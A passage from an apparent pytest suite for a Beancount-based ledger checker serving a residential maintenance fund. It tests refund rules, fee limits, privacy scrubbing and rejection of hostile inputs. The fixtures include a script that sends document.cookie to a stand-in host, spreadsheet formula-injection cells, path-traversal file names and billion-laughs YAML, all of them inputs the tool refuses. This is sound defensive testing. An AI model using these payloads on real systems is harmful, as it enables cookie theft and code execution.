      Assets:Prepaid      2000.00 CNY
      Expenses:Repairs

    2026-03-07 * "示例电梯公司" "退维修费"
      voucher: "2026-0004"
      reverses: "2026-0002"
      Equity:Opening      500.00 CNY
      Expenses:Repairs

    2026-03-08 * "示例电梯公司" "退维修费"
      voucher: "2026-0005"
      reverses: "2026-0002"
      Assets:Bank:Fund    500.00 CNY
      Expenses:Repairs
    """
    # Paid from the fund and counted, then "refunded" into another asset or equity: the fund is 2,500.00
    # poorer and the budget line shows none of it spent.
    add_accounts(books, '2025-01-01 open Assets:Prepaid CNY\n  name: "预付款"\n  name_en: "Prepaid"\n')
    books.voucher_file("2026/03/2026-0002.pdf")
    books.journal((books.root / JOURNAL).read_text(encoding="utf-8").replace(
        '  voucher: "2026-0002"\n', '  voucher: "2026-0002"\n  evidence: "2026/03/2026-0002.pdf"\n'))
    findings = books.check()
    assert places(findings) == [(JOURNAL, 10, "outflow"), (JOURNAL, 16, "outflow")]
    assert "2,000.00 CNY of a refund goes to Assets:Prepaid, which is not the fund" in findings[0].message
    assert "500.00 CNY of a refund goes to Equity:Opening, which is not the fund" in findings[1].message


def test_income_taken_back_must_name_the_voucher_it_reverses(books: Repo) -> None:
    """
    2026-03-05 * "3号楼业主" "物业费"
      voucher: "2026-0002"
      Assets:Bank:Fund    3000.00 CNY
      Income:PropertyFees

    2026-03-06 * "3号楼业主" "退物业费"
      voucher: "2026-0003"
      Income:PropertyFees  1000.00 CNY
      Assets:Bank:Fund

    2026-03-07 * "3号楼业主" "退物业费"
      voucher: "2026-0004"
      reverses: "2026-0002"
      Income:PropertyFees:Refunds  1000.00 CNY
      Assets:Bank:Fund
    """
    add_accounts(books, '2025-01-01 open Income:PropertyFees:Refunds CNY\n  name: "物业费退款"\n'
                        '  name_en: "Fee refunds"\n  income: "fees"\n')
    findings = only(books.check(), "income")
    assert places(findings) == [(JOURNAL, 8, "income"), (JOURNAL, 14, "income")]
    assert "1,000.00 CNY on Income:PropertyFees goes against the account's direction" in findings[0].message
    assert "reverses 2026-0002 but that voucher booked nothing on Income:PropertyFees:Refunds" in findings[1].message


def test_a_trustee_fee_within_the_limit_turns_over_it_when_income_is_refunded(books: Repo) -> None:
    """
    2026-03-05 * "3号楼业主" "物业费"
      voucher: "2026-0002"
      Assets:Bank:Fund    10000.00 CNY
      Income:PropertyFees

    2026-03-10 * "示例物业服务有限公司" "2026年3月受托人酬金"
      voucher: "2026-0003"
      evidence: "2026/03/2026-0003-fee.pdf"
      Expenses:TrusteeFee   1200.00 CNY
      Assets:Bank:Fund

    2026-03-20 * "3号楼业主" "退物业费"
      voucher: "2026-0004"
      reverses: "2026-0002"
      Income:PropertyFees  5000.00 CNY
      Assets:Bank:Fund
    """
    books.voucher_file("2026/03/2026-0003-fee.pdf")
    findings = books.check()
    assert places(findings) == [(JOURNAL, 12, "trustee-fee")]
    assert "1,200.00 CNY booked for 2026 by 2026-03-20, limit 12% × 5,000.00 CNY income = 600.00 CNY" \
        in findings[0].message


def test_a_trustee_fee_turns_over_the_limit_when_income_is_moved_to_a_liability(books: Repo) -> None:
    """
    2026-03-05 * "3号楼业主" "物业费"
      voucher: "2026-0002"
      Assets:Bank:Fund    10000.00 CNY
      Income:PropertyFees

    2026-03-10 * "示例物业服务有限公司" "2026年3月受托人酬金"
      voucher: "2026-0003"
      evidence: "2026/03/2026-0003-fee.pdf"
      Expenses:TrusteeFee   1200.00 CNY
      Assets:Bank:Fund

    2026-04-02 * "3号楼业主" "物业费转预收款"
      voucher: "2026-0004"
      reverses: "2026-0002"
      Income:PropertyFees  4000.00 CNY
      Liabilities:Held
    """
    add_accounts(books, LIABILITIES)
    books.voucher_file("2026/03/2026-0003-fee.pdf")
    findings = books.check()
    assert places(findings) == [(JOURNAL, 12, "trustee-fee")]
    assert "1,200.00 CNY booked for 2026 by 2026-04-02, limit 12% × 6,000.00 CNY income = 720.00 CNY" \
        in findings[0].message


def test_an_income_account_must_say_what_it_is(repo: Repo) -> None:
    add_accounts(repo, '2025-01-01 open Income:Ads CNY\n  name: "广告"\n  name_en: "Advertising"\n'
                       '2025-01-01 open Income:Rent CNY\n  name: "场地租金"\n  name_en: "Rent"\n  income: "Itemised"\n'
                       '2025-01-01 open Income:Venue CNY\n  name: "场地"\n  name_en: "Venue"\n  income: TRUE\n')
    repo.journal('2026-03-05 * "示例广告公司" "电梯广告"\n  voucher: "2026-0002"\n  Assets:Bank:Fund   6000.00 CNY\n'
                 "  Income:Ads\n")
    findings = only(repo.check(), "income")
    first = ACCOUNTS_LINES + 1
    assert places(findings) == [(ACCOUNTS_FILE, first, "income"), (ACCOUNTS_FILE, first + 3, "income"),
                                (ACCOUNTS_FILE, first + 7, "income")]
    assert "Income:Ads does not say what it is; add income: with one of fees, itemised, interest, other" \
        in findings[0].message
    assert "Income:Rent says income: 'Itemised'" in findings[1].message
    assert "Income:Venue does not say what it is" in findings[2].message


def test_a_sub_account_of_an_itemised_account_cannot_declare_itself_other(books: Repo) -> None:
    """
    2026-03-31 * "停车场收费" "2026年3月临时停车"
      voucher: "2026-0002"
      evidence: "2026/03/2026-0002-parking.pdf"
      Assets:Bank:Fund   3000.00 CNY
      Income:Parking:Temporary
    """
    add_accounts(books, '2025-01-01 open Income:Parking:Temporary CNY\n  name: "临时停车"\n'
                        '  name_en: "Temporary parking"\n  income: "other"\n')
    books.voucher_file("2026/03/2026-0002-parking.pdf")
    findings = books.check()
    assert places(findings) == [(JOURNAL, 1, "itemised"), (ACCOUNTS_FILE, ACCOUNTS_LINES + 1, "income")]
    assert "3,000.00 CNY into Income:Parking:Temporary has no detail sheet" in findings[0].message
    assert "Income:Parking:Temporary says income: 'other' under Income:Parking, which is itemised" \
        in findings[1].message


def test_other_income_at_the_threshold_needs_evidence_however_it_is_split(books: Repo) -> None:
    """
    2026-03-06 * "示例广告公司" "赞助"
      voucher: "2026-0002"
      Assets:Bank:Fund    500.00 CNY
      Income:Sponsor

    2026-03-07 * "示例广告公司" "赞助"
      voucher: "2026-0003"
      Assets:Bank:Fund    499.99 CNY
      Income:Sponsor

    2026-03-08 * "示例广告公司" "赞助与捐赠"
      voucher: "2026-0004"
      Assets:Bank:Fund    600.00 CNY
      Income:Sponsor     -300.00 CNY
      Income:Gifts       -300.00 CNY
    """
    add_accounts(books, '2025-01-01 open Income:Sponsor CNY\n  name: "赞助"\n  name_en: "Sponsorship"\n'
                        '  income: "other"\n2025-01-01 open Income:Gifts CNY\n  name: "捐赠"\n  name_en: "Gifts"\n'
                        '  income: "other"\n')
    findings = only(books.check(), "income")
    assert places(findings) == [(JOURNAL, 1, "income"), (JOURNAL, 11, "income")]
    assert "500.00 CNY of other income without evidence" in findings[0].message
    assert "600.00 CNY of other income without evidence" in findings[1].message


# 6. Publish only what was scanned.


def tiff_with_gps(order: str) -> bytes:
    """A TIFF (EXIF) block whose IFD0 points, by tag 0x8825, to a GPS IFD with one entry (GPSLatitudeRef N)."""
    fmt = "<" if order == "II" else ">"
    gps_ifd = 8 + 2 + 12 + 4
    ifd0 = struct.pack(fmt + "H", 1) + struct.pack(fmt + "HHII", 0x8825, 4, 1, gps_ifd) + struct.pack(fmt + "I", 0)
    gps = struct.pack(fmt + "H", 1) + struct.pack(fmt + "HHI", 0x0001, 2, 2) + b"N\x00\x00\x00" + \
        struct.pack(fmt + "I", 0)
    return order.encode() + struct.pack(fmt + "H", 42) + struct.pack(fmt + "I", 8) + ifd0 + gps


def jpeg_with_gps(order: str = "II") -> bytes:
    jfif = b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    exif = b"Exif\x00\x00" + tiff_with_gps(order)
    return (b"\xff\xd8" + b"\xff\xe0" + struct.pack(">H", len(jfif) + 2) + jfif
            + b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif
            + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + b"\x12\x34" * 8 + b"\xff\xd9")


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_with_gps() -> bytes:
    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    pixels = png_chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff"))
    return b"\x89PNG\r\n\x1a\n" + header + png_chunk(b"eXIf", tiff_with_gps("MM")) + pixels + png_chunk(b"IEND", b"")


def pdf_naming(author: str | None = None, creator_xmp: str | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=72, height=72)
    if author:
        writer.add_metadata({"/Author": author})
    if creator_xmp:
        writer.xmp_metadata = (
            '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
            '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator><rdf:Seq>'
            f"<rdf:li>{creator_xmp}</rdf:li></rdf:Seq></dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>"
            '<?xpacket end="w"?>').encode()
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_by_hand(info: bytes) -> bytes:
    """A one-page PDF written byte by byte (with a correct cross-reference table) whose /Info is ``info``."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 72 72] >>", info]
    out, offsets = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return out + b"trailer\n<< /Size %d /Root 1 0 R /Info 4 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)


def png_with_raw_exif_profile() -> bytes:
    """GPS in EXIF kept as ImageMagick keeps it in a PNG: hex digits in a compressed "Raw profile type exif"."""
    exif = b"Exif\x00\x00" + tiff_with_gps("II")
    text = b"\nexif\n%8d\n" % len(exif) + exif.hex().encode() + b"\n"
    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    profile = png_chunk(b"zTXt", b"Raw profile type exif\x00\x00" + zlib.compress(text))
    pixels = png_chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff"))
    return b"\x89PNG\r\n\x1a\n" + header + profile + pixels + png_chunk(b"IEND", b"")


SCRIPT = b"<script>fetch('https://evil.invalid/?'+document.cookie)</script>"


@pytest.mark.parametrize("name", ["x.md", "x.svg", "x.html",  # named in issue 7
                                  "2026/03/X.SVG", "x.xhtml", "x.pdf.html", "x.js"])
def test_a_page_or_script_under_vouchers_is_refused(repo: Repo, name: str) -> None:
    repo.voucher_file(name, b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>")
    findings = repo.check()
    assert places(findings) == [(f"ledgers/test/vouchers/{name}", 0, "lint-file")]
    assert "only PDF, JPEG, PNG (evidence) and CSV (detail sheets) may be kept under vouchers/" in findings[0].message
    # bean-check and Fava, without the lint: the publish rule refuses the same file.
    [refused] = only(loaded(repo), "publish")
    assert (refused.path, refused.line) == (f"ledgers/test/vouchers/{name}", 0)
    assert "only PDF, JPEG, PNG and CSV files may be published under vouchers/" in refused.message


@pytest.mark.parametrize(("name", "content", "said"), [
    ("receipt.pdf", b"<!DOCTYPE html><html>" + SCRIPT + b"</html>", "is named .pdf but its content is not a PDF"),
    ("photo.png", b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>", "is named .png but its content"),
    ("photo.jpg", b"%PDF-1.4\n%not a photo\n", "is named .jpg but its content is PDF"),
    ("sheet.csv", b"%PDF-1.4\nunit,item,amount\n", "is named .csv but holds PDF"),
])
def test_a_file_whose_content_is_not_its_kind_is_refused(repo: Repo, name: str, content: bytes, said: str) -> None:
    repo.voucher_file(name, content)
    findings = repo.check()
    assert places(findings) == [(f"ledgers/test/vouchers/{name}", 0, "publish")]
    assert said in findings[0].message


def scrub(path: Path) -> None:
    with contextlib.redirect_stderr(io.StringIO()):
        assert main(["scrub", str(path)]) == 0


@pytest.mark.parametrize(("name", "content", "said"), [
    ("2026/03/photo.jpg", jpeg_with_gps("II"), "is an image with location data (EXIF GPS)"),
    ("2026/03/photo-be.jpeg", jpeg_with_gps("MM"), "is an image with location data (EXIF GPS)"),
    ("2026/03/photo.png", png_with_gps(), "is an image with location data (EXIF GPS)"),
    ("2026/03/invoice.pdf", pdf_naming(author="张三"), "is a PDF that names its author"),
    ("2026/03/scan.pdf", pdf_naming(creator_xmp="李四"), "is a PDF that names its author"),
    ("2026/03/escaped.pdf", pdf_by_hand(b"<< /Auth#6Fr (Wang Wu) /Producer (scanner) >>"),
     "is a PDF that names its author"),
    ("2026/03/profile.png", png_with_raw_exif_profile(), "is an image with location data (EXIF GPS)"),
])
def test_location_and_author_metadata_are_refused_until_scrubbed(repo: Repo, name: str, content: bytes,
                                                                 said: str) -> None:
    path = repo.voucher_file(name, content)
    findings = repo.check()
    assert places(findings) == [(f"ledgers/test/vouchers/{name}", 0, "publish")]
    assert said in findings[0].message and f"run trustfund scrub ledgers/test/vouchers/{name}" in findings[0].message
    scrub(path)
    assert repo.check() == []
    assert path.read_bytes()[:4] in (b"\xff\xd8\xff\xe0", b"\x89PNG", b"%PDF")


@pytest.mark.parametrize(("cell", "written"), [
    ('=HYPERLINK("http://x","y")', '"=HYPERLINK(""http://x"",""y"")"'),  # named in issue 7
    ("+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "@SUM(1+1)"),
    ("-2+3", "-2+3"),
    ("\t=1+1", '"\t=1+1"'),
])
def test_a_detail_sheet_with_a_formula_cell_is_refused(repo: Repo, cell: str, written: str) -> None:
    repo.voucher_file("2026/03/parking.csv", f"unit,item,amount\nP-001,月租车位,300.00\nP-002,{written},-50.00\n"
                      .encode())
    findings = repo.check()
    assert places(findings) == [("ledgers/test/vouchers/2026/03/parking.csv", 3, "publish")]
    assert f"line 3: the cell {cell!r} would run as a spreadsheet formula" in findings[0].message


PHONE_JOURNAL = """\
2026-03-02 * "3号楼业主" "联系 139.1234.5678"
  voucher: "2026-0002"
  Assets:Bank:Fund   10.00 CNY
  Income:PropertyFees

2026-03-03 * "3号楼业主" "联系 139/1234/5678"
  voucher: "2026-0003"
  Assets:Bank:Fund   10.00 CNY
  Income:PropertyFees

2026-03-04 * "3号楼业主" "联系 １３９１２３４５６７８"
  voucher: "2026-0004"
  Assets:Bank:Fund   10.00 CNY
  Income:PropertyFees

2026-03-05 * "3号楼业主" "联系 139\u200b1234\u200b5678"
  voucher: "2026-0005"
  Assets:Bank:Fund   10.00 CNY
  Income:PropertyFees
; 13912345678
2026-03-06 * "3号楼业主" "联系方式见下"   ; 139·1234·5678
  voucher: "2026-0006"
  memo: "𝟏𝟑𝟗\u20601234\u00ad5678"
  Assets:Bank:Fund   10.00 CNY
  Income:PropertyFees
"""


def test_phone_numbers_in_any_spelling_are_refused_in_every_published_ledger_byte(repo: Repo) -> None:
    repo.journal(PHONE_JOURNAL)
    expected = [(JOURNAL, line, "privacy") for line in (1, 6, 11, 16, 20, 21, 23)]
    findings = repo.check()
    assert places(findings) == expected
    assert all("holds a mobile phone number" in finding.message for finding in findings)
    assert "'memo:' holds a mobile phone number" in findings[-1].message
    assert places(only(loaded(repo), "privacy")) == expected


def test_personal_numbers_are_refused_in_every_published_file_beside_the_ledger(repo: Repo) -> None:
    repo.voucher_file("2026/03/unreferenced.csv", "unit,item,amount\nP-001,联系 139-1234-5678,1.00\n".encode())
    repo.write("budgets/test/2026.yaml", BUDGET_2026 + "# 联系人 １３９ １２３４ ５６７８\n")
    repo.write("notices/test/2025-12-20-budget-vote.md", VOTE + "监票人电话 139\u200c1234\u200c5678\n")
    repo.write("ledgers/test/compound.yaml", PROFILE + "notes: \"物业值班 139 1234 5678\"\n")
    # An ID-card number (valid check digit) grouped with spaces, a bank card (Luhn) with hyphens.
    repo.write("ledgers/test/units.csv", "unit,building,area,since\nab2c3d4e,3号楼,89.50,2026-01\n"
               "# 110101 19900307 1233\n# 4111-1111-1111-1111\n")
    findings = only(repo.check(), "privacy")  # the roster's bad rows are the fees rule's too
    budget_lines = len(BUDGET_2026.splitlines()) + 1
    assert places(findings) == [
        ("budgets/test/2026.yaml", budget_lines, "privacy"),
        ("ledgers/test/compound.yaml", len(PROFILE.splitlines()) + 1, "privacy"),
        ("ledgers/test/units.csv", 3, "privacy"),
        ("ledgers/test/units.csv", 4, "privacy"),
        ("ledgers/test/vouchers/2026/03/unreferenced.csv", 2, "privacy"),
        ("notices/test/2025-12-20-budget-vote.md", len(VOTE.splitlines()) + 1, "privacy"),
    ]
    assert "holds an ID-card number" in findings[2].message and "holds a bank-card number" in findings[3].message


def test_a_phone_number_glued_to_a_voucher_number_is_refused(books: Repo) -> None:
    """
    2026-03-05 * "示例五金店" "灯具"
      voucher: "2026-0002"
      evidence: "2026/03/2026-0002-13912345678.pdf"
      Expenses:Repairs   20.00 CNY
      Assets:Bank:Fund
    """
    books.voucher_file("2026/03/2026-0002-13912345678.pdf")
    findings = books.check()
    assert places(findings) == [(JOURNAL, 3, "privacy"),
                                ("ledgers/test/vouchers/2026/03/2026-0002-13912345678.pdf", 0, "privacy")]
    assert "'evidence:' holds a mobile phone number" in findings[0].message
    assert "the name ledgers/test/vouchers/2026/03/2026-0002-13912345678.pdf holds a mobile phone number; rename " \
           "it" in findings[1].message


def test_personal_numbers_in_published_file_names_are_refused(repo: Repo) -> None:
    repo.voucher_file("2026/03/139.1234.5678.jpg", jpeg_with_gps().replace(b"\xff\xe1", b"\xff\xe2", 1))
    notice = "notices/test/2026-03-01-call-13912345678.md"
    repo.write(notice, "---\ntitle: 维修通知\ndate: 2026-03-01\nkind: announcement\n---\n请联系物业服务中心。\n")
    findings = repo.check()
    assert places(findings) == [("ledgers/test/vouchers/2026/03/139.1234.5678.jpg", 0, "privacy"),
                                (notice, 0, "privacy")]
    assert all("holds a mobile phone number; rename it — file names are published too" in f.message for f in findings)
    assert places(only(loaded(repo), "privacy")) == places(findings)


def test_a_detail_sheet_outside_vouchers_is_refused(books: Repo) -> None:
    """
    2026-03-31 * "停车场收费" "2026年3月月租车位"
      voucher: "2026-0002"
      detail: "../units.csv"
      Assets:Bank:Fund   300.00 CNY
      Income:Parking
    """
    books.write("ledgers/test/units.csv", "unit,building,area,amount\nab2c3d4e,3号楼,89.50,300.00\n")
    [finding] = only(books.check(), "itemised")  # the roster without its since column is the fees rule's
    assert (finding.path, finding.line, finding.rule) == (JOURNAL, 1, "itemised")
    assert "'../units.csv' must be a path inside vouchers/" in finding.message


@pytest.mark.parametrize("voucher", ["２０２６-０００２", "𝟐𝟎𝟐𝟔-𝟎𝟎𝟎𝟐", "٢٠٢٦-٠٠٠٢", "2026-０００1", "2026–0002"])
def test_a_voucher_number_in_other_digits_is_refused(repo: Repo, voucher: str) -> None:
    repo.journal(f'2026-03-02 * "3号楼业主" "物业费"\n  voucher: "2026-0002"\n  Assets:Bank:Fund   10.00 CNY\n'
                 f'  Income:PropertyFees\n\n2026-03-03 * "4号楼业主" "物业费"\n  voucher: "{voucher}"\n'
                 "  Assets:Bank:Fund   10.00 CNY\n  Income:PropertyFees\n")
    findings = repo.check()
    assert places(findings) == [(JOURNAL, 6, "voucher")]
    assert f"voucher {voucher!r} is not of the form YYYY-NNNN" in findings[0].message


@pytest.mark.parametrize("voucher", ["2026-00002", "2026-000000000002"])
def test_a_voucher_number_with_more_leading_zeros_is_a_used_number(repo: Repo, voucher: str) -> None:
    repo.journal(f'2026-03-02 * "3号楼业主" "物业费"\n  voucher: "2026-0002"\n  Assets:Bank:Fund   10.00 CNY\n'
                 f'  Income:PropertyFees\n\n2026-03-03 * "4号楼业主" "物业费"\n  voucher: "{voucher}"\n'
                 "  Assets:Bank:Fund   10.00 CNY\n  Income:PropertyFees\n")
    findings = repo.check()
    assert places(findings) == [(JOURNAL, 6, "voucher")]
    assert f"voucher {voucher} is already used at {JOURNAL}:1 (as 2026-0002)" in findings[0].message


def test_the_csv_download_neutralises_formulas_in_text_but_keeps_amounts_numbers(books: Repo) -> None:
    """
    2026-03-09 * "=HYPERLINK(\\"http://x\\",\\"y\\")" "@SUM(1+1)"
      voucher: "2026-0002"
      Expenses:Repairs:Lamps   10.00 CNY
      Assets:Bank:Fund

    2026-03-10 * "-2+3" "+cmd|' /C calc'!A0"
      voucher: "2026-0003"
      Expenses:Repairs   20.00 CNY
      Assets:Bank:Fund
    """
    add_accounts(books, '2025-01-01 open Expenses:Repairs:Lamps CNY\n  name: "=1+1"\n  name_en: "\tLamps"\n')
    assert books.check() == []
    out = io.BytesIO()
    view = build_view(load_books(books.root, "test"))
    write_transactions_zip(view, 2026, view.items, out)
    with zipfile.ZipFile(out) as archive:
        assert archive.namelist() == ["transactions-2026.csv"]
        text = archive.read("transactions-2026.csv").decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    lamps = next(row for row in rows if row["voucher"] == "2026-0002" and row["account"] == "Expenses:Repairs:Lamps")
    assert lamps["payee"] == "'=HYPERLINK(\"http://x\",\"y\")"
    assert lamps["narration"] == "'@SUM(1+1)"
    assert (lamps["account_name"], lamps["account_name_en"]) == ("'=1+1", "'\tLamps")
    fund = next(row for row in rows if row["voucher"] == "2026-0002" and row["account"] == "Assets:Bank:Fund")
    assert fund["amount"] == "-10.00"
    second = next(row for row in rows if row["voucher"] == "2026-0003" and row["account"] == "Assets:Bank:Fund")
    assert (second["payee"], second["narration"], second["amount"]) == ("'-2+3", "'+cmd|' /C calc'!A0", "-20.00")


@pytest.mark.parametrize("name", ["..\\..\\..\\startup.beancount", "a b.beancount", "-rf.beancount",
                                  "\u202eevil.beancount", "con:x.beancount", ".hidden.beancount"])
def test_a_ledger_file_s_hostile_name_cannot_reach_outside_its_archive(repo: Repo, name: str) -> None:
    """A treasurer names the files main.beancount includes: in the ledger archives a name is kept only when every
    part is plain letters, digits, - and _, so no name can climb out of the folder an owner extracts into
    (a backslash is a folder on Windows), hide its extension or start with a dot."""
    # Globs, so that no name is spelled in a Beancount string: any name but the months', and those with a dot first.
    repo.write(MAIN_FILE, MAIN + 'include "2026/[!0]*.beancount"\ninclude "2026/.*.beancount"\n')
    repo.write(f"ledgers/test/2026/{name}", '2026-03-02 * "3号楼业主" "物业费"\n  voucher: "2026-0002"\n'
               "  Assets:Bank:Fund   10.00 CNY\n  Income:PropertyFees\n")
    assert repo.check() == []
    view = build_view(load_books(repo.root, "test"))
    members: dict[str, bytes] = {}
    for files in SiteBuilder.ledger_archives(view).values():
        out = io.BytesIO()
        write_ledger_zip(files, out)
        with zipfile.ZipFile(out) as archive:
            for info in archive.infolist():
                assert info.date_time == (1980, 1, 1, 0, 0, 0) and info.external_attr == 0o644 << 16
                members[info.filename] = archive.read(info)
    assert all(re.fullmatch(r"(\d{4}/)?[A-Za-z0-9_][A-Za-z0-9_-]*\.beancount", member) for member in members), members
    [renamed] = set(members) - {"2026/01.beancount", "accounts.beancount", "main.beancount"}
    assert re.fullmatch(r"_file-\d{3}\.beancount", renamed), renamed
    assert members[renamed] == (repo.compound / "2026" / name).read_bytes()


# 7. No tracebacks, bounded work: every reader turns bad input into a finding with file and line.


LAUGHS = "lol0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"lol{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]\n" for i in range(1, 10))
PARKING = ('2026-03-31 * "停车场收费" "2026年3月月租车位"\n  voucher: "2026-0002"\n  detail: "2026/03/parking.csv"\n'
           "  Assets:Bank:Fund   600.00 CNY\n  Income:Parking\n")
FEE = '2026-03-31 * "示例物业服务有限公司" "受托人酬金"\n  voucher: "2026-0002"\n  period: {period}\n' \
      "  Expenses:TrusteeFee   10.00 CNY\n  Assets:Bank:Fund\n"
BUDGET = "budgets/test/2026.yaml"
NOTICE = "notices/test/2025-12-20-budget-vote.md"
PROFILE_FILE = "ledgers/test/compound.yaml"
SHEET = "ledgers/test/vouchers/2026/03/parking.csv"


def parking_sheet(sheet: bytes) -> Callable[[Repo], None]:
    def write(repo: Repo) -> None:
        repo.journal(PARKING)
        repo.write(SHEET, sheet)
    return write


def written(relative: str, text: str) -> Callable[[Repo], None]:
    def write(repo: Repo) -> None:
        repo.write(relative, text)
    return write


def a_folder_in_place_of(relative: str) -> Callable[[Repo], None]:
    """The file replaced by a folder of the same name (holding a file, as git can only carry folders that do)."""
    def replace(repo: Repo) -> None:
        (repo.root / relative).unlink()
        repo.write(f"{relative}/index.md", "# 不是文件\n")
    return replace


BAD_INPUTS: dict[str, tuple[Callable[[Repo], None], Place]] = {
    # Named in issue 7.
    "self-referencing-alias-in-the-profile": (written(PROFILE_FILE, PROFILE + "x: &a [*a]\n"),
                                              (PROFILE_FILE, len(PROFILE.splitlines()) + 1, "compound")),
    "billion-laughs-in-a-budget": (written(BUDGET, BUDGET_2026 + LAUGHS),
                                   (BUDGET, len(BUDGET_2026.splitlines()) + 1, "budget")),
    "budget-cap-1e30": (written(BUDGET, BUDGET_2026.replace("Expenses:Cleaning: 10000.00", "Expenses:Cleaning: 1e30")),
                        (BUDGET, 10, "budget")),
    "5000-digit-amount": (written(JOURNAL, '2026-03-02 * "示例银行" "利息"\n  voucher: "2026-0002"\n'
                                           f"  Assets:Bank:Fund   {'9' * 5000} CNY\n  Income:PropertyFees\n"),
                          (JOURNAL, 3, "syntax")),
    "superscript-period": (written(JOURNAL, FEE.format(period='"²⁰²⁶"')), (JOURNAL, 1, "trustee-fee")),
    "stray-carriage-return-in-a-detail-sheet": (parking_sheet(b"unit,item,amount\nP-001,x\r,300.00\nP-002,y,300.00\n"),
                                                (JOURNAL, 1, "itemised")),
    # Other spellings of the same classes.
    "self-referencing-alias-in-a-budget": (written(BUDGET, BUDGET_2026 + "extra: &e {again: *e}\n"),
                                           (BUDGET, len(BUDGET_2026.splitlines()) + 1, "budget")),
    "merge-key-alias-in-a-notice": (written(NOTICE, VOTE.replace(
        "households: {total: 100, voted: 80, for: 70}",
        "households: &h {total: 100, voted: 80, for: 70}\narea_copy: {<<: *h}")), (NOTICE, 6, "notice")),
    "billion-laughs-in-the-profile": (written(PROFILE_FILE, PROFILE + LAUGHS),
                                      (PROFILE_FILE, len(PROFILE.splitlines()) + 1, "compound")),
    "budget-cap-1E+30": (written(BUDGET, BUDGET_2026.replace("Expenses:Repairs: 5000.00", "Expenses:Repairs: 1E+30")),
                         (BUDGET, 11, "budget")),
    "budget-cap-infinity": (written(BUDGET, BUDGET_2026.replace("Expenses:Repairs: 5000.00", "Expenses:Repairs: .inf")),
                            (BUDGET, 11, "budget")),
    "budget-cap-13-digits": (written(BUDGET, BUDGET_2026.replace("Expenses:Repairs: 5000.00",
                                                                 "Expenses:Repairs: 9999999999999.00")),
                             (BUDGET, 11, "budget")),
    "planned-income-5000-digits": (written(BUDGET, BUDGET_2026.replace("200000.00", "9" * 5000)),
                                   (BUDGET, 8, "budget")),
    "5000-digit-balance": (written(JOURNAL, "2026-03-31 balance Assets:Bank:Fund   " + "1" * 5000 + ".00 CNY\n"),
                           (JOURNAL, 1, "syntax")),
    "full-width-period": (written(JOURNAL, FEE.format(period='"２０２６"')), (JOURNAL, 1, "trustee-fee")),
    "numeric-period": (written(JOURNAL, FEE.format(period="2026")), (JOURNAL, 1, "trustee-fee")),
    "carriage-return-inside-an-amount": (parking_sheet(b"unit,item,amount\nP-001,x,300\r.00\nP-002,y,300.00\n"),
                                         (JOURNAL, 1, "itemised")),
    "cell-beyond-the-csv-field-limit": (parking_sheet(b"unit,item,amount\nP-001,\"" + b"x" * 200_000 + b"\",600.00\n"),
                                        (JOURNAL, 1, "itemised")),
    # Beancount's C parser dies of SIGSEGV on a zero divisor: the lint keeps such a line from it.
    "division-by-zero": (written(JOURNAL, '2026-03-02 * "示例银行" "利息"\n  voucher: "2026-0002"\n'
                                          "  Assets:Bank:Fund   1/0 CNY\n  Income:PropertyFees\n"),
                         (JOURNAL, 3, "lint-amount")),
    "division-by-an-expression-of-zero": (written(JOURNAL, "2026-03-31 price USD   7/(1-1) CNY\n"),
                                          (JOURNAL, 1, "lint-amount")),
    # Beancount's booking divides a total cost by zero units (beancount#1048): the lint refuses it first.
    "zero-units-at-a-total-cost": (written(JOURNAL, '2026-03-02 * "示例银行" "利息"\n  voucher: "2026-0002"\n'
                                                    "  Assets:Bank:Fund   0 CNY {{20.00 CNY}}\n"
                                                    "  Income:PropertyFees   -20.00 CNY\n"),
                                   (JOURNAL, 3, "lint-amount")),
    "zero-units-at-a-cost-with-a-total": (written(JOURNAL, '2026-03-02 * "示例银行" "利息"\n  voucher: "2026-0002"\n'
                                                           "  Assets:Bank:Fund   -0 CNY {0 # 20.00 CNY}\n"
                                                           "  Income:PropertyFees   -20.00 CNY\n"),
                                          (JOURNAL, 3, "lint-amount")),
    # A line number that is text: Beancount's parser raises while it sorts the entries; the lint keeps it out.
    "a-lineno-that-is-text": (written(JOURNAL, '2026-03-02 * "示例银行" "利息"\n  voucher: "2026-0002"\n'
                                               '  lineno: "9999"\n  Assets:Bank:Fund   1.00 CNY\n'
                                               "  Income:PropertyFees\n"), (JOURNAL, 3, "lint-metadata")),
    "an-evidence-name-too-long-for-the-file-system": (
